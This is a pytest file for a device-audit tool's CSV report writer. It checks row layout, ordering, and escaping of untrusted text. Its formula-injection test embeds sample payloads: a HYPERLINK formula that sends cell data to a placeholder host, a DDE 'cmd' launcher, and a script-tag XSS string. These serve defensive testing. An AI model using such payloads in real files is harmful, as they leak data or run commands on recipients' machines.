from __future__ import annotations

import csv
import dataclasses
import io
import json

from camscan.model import AuditResult
from camscan.reports.csv_report import COLUMNS, neutralize, render_csv


def _parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_row_per_finding_with_its_endpoint_and_leaf(audit: AuditResult) -> None:
    rows = _parse(render_csv(audit))
    assert len(rows) == len(audit.findings)
    assert list(rows[0]) == list(COLUMNS)
    vms = [r for r in rows if r["address"] == "127.20.0.15"]
    assert {r["rule_id"] for r in vms} == {"CS120", "CS201"}
    assert all(r["port"] == "7443" and r["server_name"] == "vms.example.net" for r in vms)
    assert vms[0]["not_after"] == "2026-11-18T12:00:00Z"
    assert vms[0]["subject"] == "CN=vms.example.net"
    assert json.loads(vms[0]["evidence"])  # evidence survives as JSON
    # Endpoints without findings and failed probes produce no rows.
    assert not [r for r in rows if r["address"] in {"127.20.0.17", "127.20.0.18"}]


def test_device_text_stays_one_cell(audit: AuditResult) -> None:
    rows = _parse(render_csv(audit))
    hostile = [r for r in rows if r["address"] == "127.20.0.16"]
    assert len(hostile) == 1
    assert "<script>document.title='pwned'</script>" in hostile[0]["subject"].replace("\\", "")


def test_formula_injection_is_neutralised(audit: AuditResult) -> None:
    base = audit.findings[0]
    evil = dataclasses.replace(
        base,
        message='=HYPERLINK("http://example.invalid/?"&A1,"click")',
        title="+cmd|' /C calc'!A0",
        remediation="@SUM(1+1)",
    )
    minus = dataclasses.replace(base, message="-2+3", rule_id="CS999")
    doctored = dataclasses.replace(audit, findings=(evil, minus, *audit.findings[1:]))
    rows = _parse(render_csv(doctored))
    row = next(r for r in rows if r["title"].startswith("'+cmd"))
    assert row["message"].startswith("'=HYPERLINK(")
    assert row["remediation"] == "'@SUM(1+1)"
    assert next(r for r in rows if r["rule_id"] == "CS999")["message"] == "'-2+3"
    # Ordinary text is untouched.
    assert all(not r["address"].startswith("'") for r in rows)
    assert next(r for r in rows if r["rule_id"] == "CS120")["message"].startswith("the leaf")


def test_neutralize_only_touches_formula_starts() -> None:
    assert neutralize("=1+1") == "'=1+1"
    assert neutralize("\t=1") == "'\t=1"
    assert neutralize("a=1") == "a=1"
    assert neutralize(443) == 443
    assert neutralize("") == ""


def test_no_findings_gives_header_only(audit: AuditResult) -> None:
    empty = dataclasses.replace(audit, findings=())
    text = render_csv(empty)
    assert text == ",".join(COLUMNS) + "\r\n"


def test_rows_are_sorted_and_deterministic(audit: AuditResult) -> None:
    shuffled = dataclasses.replace(audit, findings=tuple(reversed(audit.findings)))
    assert render_csv(shuffled) == render_csv(audit)
    keys = [(r["address"], r["port"]) for r in _parse(render_csv(audit))]
    assert keys == sorted(keys, key=lambda k: (tuple(int(p) for p in k[0].split(".")), int(k[1])))


